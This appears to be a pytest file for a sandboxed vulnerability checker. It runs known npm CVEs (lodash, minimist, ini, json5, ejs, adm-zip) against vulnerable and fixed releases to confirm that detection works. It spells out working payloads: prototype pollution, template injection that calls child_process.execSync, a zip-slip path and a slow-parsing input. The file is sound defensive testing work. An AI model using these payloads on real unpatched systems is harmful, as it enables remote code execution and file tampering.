"""Public, long-fixed flaws of real packages: seen on the vulnerable release, not on the fixed one."""

from collections.abc import Callable
from pathlib import Path

import pytest

from clearinghouse.releases.environments import Environments
from clearinghouse.releases.index import Indexes
from clearinghouse.releases.interpreters import Interpreters
from clearinghouse.releases.rules import Interpreter
from clearinghouse.sandbox.profile import Sandbox
from tests.validation.runtimes.node.conftest import open_up
from tests.validation.runtimes.node.stage import NONCE, Json, Stage
from tests.validation.runtimes.python.witness import Seen

pytestmark = [pytest.mark.index, pytest.mark.enable_socket]

RUN_TRUE = {"$cat": ["process.mainModule.require('child_process').execSync('true ", NONCE, "')"]}

FLAWS: dict[str, tuple[str, str, str, list[Json], bool]] = {
    "CVE-2020-8203": (
        "pkg:npm/lodash@4.17.15", "pkg:npm/lodash@4.17.21", "pollution",
        [{"call": "lodash#zipObjectDeep", "args": [[{"$cat": ["__proto__.", NONCE]}], [1]]}], False,
    ),
    "CVE-2021-23337": (
        "pkg:npm/lodash@4.17.20", "pkg:npm/lodash@4.17.21", "command-execution",
        [
            {"call": "lodash#template", "args": ["x", {"variable": {"$cat": ["a=", RUN_TRUE]}}]},
            {"call": {"$ref": 0}},
        ],
        True,
    ),
    "CVE-2021-44906": (
        "pkg:npm/minimist@1.2.5", "pkg:npm/minimist@1.2.6", "pollution",
        [{"call": "minimist", "args": [[{"$cat": ["--_.constructor.constructor.prototype.", NONCE]}, "1"]]}], False,
    ),
    "CVE-2020-7788": (
        "pkg:npm/ini@1.3.5", "pkg:npm/ini@1.3.6", "pollution",
        [{"call": "ini#parse", "args": [{"$cat": ["[__proto__]\n", NONCE, " = 1\n"]}]}], False,
    ),
    "CVE-2022-46175": (
        "pkg:npm/json5@2.2.1", "pkg:npm/json5@2.2.2", "invariant",
        [{"call": "json5#parse", "args": [{"$cat": ['{"__proto__": {"', NONCE, '": 1}}']}], "must_not_inherit": NONCE}],
        False,
    ),
    "CVE-2022-29078": (
        "pkg:npm/ejs@3.1.6", "pkg:npm/ejs@3.1.7", "command-execution",
        [
            {"call": "ejs#renderFile", "args": [
                {"$path": "page.ejs"},
                {"settings": {"view options": {"outputFunctionName": {"$cat": ["x;", RUN_TRUE, ";s"]}}}},
            ]},
        ],
        False,
    ),
    "CVE-2018-1002204": (
        "pkg:npm/adm-zip@0.4.7", "pkg:npm/adm-zip@0.4.11", "file-write",
        [
            {"new": "adm-zip", "args": [{"$zip": [[{"$cat": ["../", {"$canary": "relative"}]}, "x"]]}]},
            {"method": "extractAllTo", "on": {"$ref": 0}, "args": ["out", True]},
        ],
        False,
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def stages(tmp_path_factory: pytest.TempPathFactory, node: Interpreter, sandbox: Sandbox) -> Callable[[str], Stage]:
    """Return the maker of a stage for a release, fetched and put together with its dependencies."""
    cache: Path = tmp_path_factory.mktemp("releases")
    open_up(cache)
    indexes = Indexes(cache)
    environments = Environments(cache, indexes, Interpreters(cache), sandbox)

    def make(purl: str) -> Stage:
        environment = environments.environment(indexes.release(purl), node)
        name = environment.names[0]
        packages = environment.dependencies
        if packages is None:
            packages = cache / "none" / name
            (packages / name).mkdir(parents=True, exist_ok=True)
            open_up(packages)
        return Stage(packages, environment.interpreter, sandbox, name, environment.target)

    return make


def _witnesses(seen: Seen, detector: str) -> int:
    if detector == "invariant":
        return len(seen.of("broken"))
    return sum(one["token"] and one["blamed"] in {"target", "dependency"} for one in seen.acts(detector))


@pytest.mark.parametrize("name", FLAWS)
def test_a_real_flaw_shows_on_the_vulnerable_release_only(stages: Callable[[str], Stage], name: str) -> None:
    vulnerable, fixed, detector, steps, returned_code = FLAWS[name]
    document = {"steps": steps, "returned_code": returned_code, "setup": {"files": {"page.ejs": "x"}}}
    seen = [stages(purl).start("calls", detector, document=document) for purl in (vulnerable, fixed)]
    assert [one.fault() for one in seen] == ["", ""]
    assert [bool(_witnesses(one, detector)) for one in seen] == [True, False]


def test_growth_of_a_real_package_shows_on_the_vulnerable_release_only(stages: Callable[[str], Stage]) -> None:
    step = {"call": "lodash#toNumber", "args": [{"$cat": ["1", {"$repeat": [" ", "$n"]}, "1"]}]}
    seen = [
        stages(purl).calls("growth", step, sizes=[8000, 16000, 32000]).of("time")
        for purl in ("pkg:npm/lodash@4.17.20", "pkg:npm/lodash@4.17.21")
    ]
    assert [points[-1]["seconds"] > 0.05 for points in seen] == [True, False]
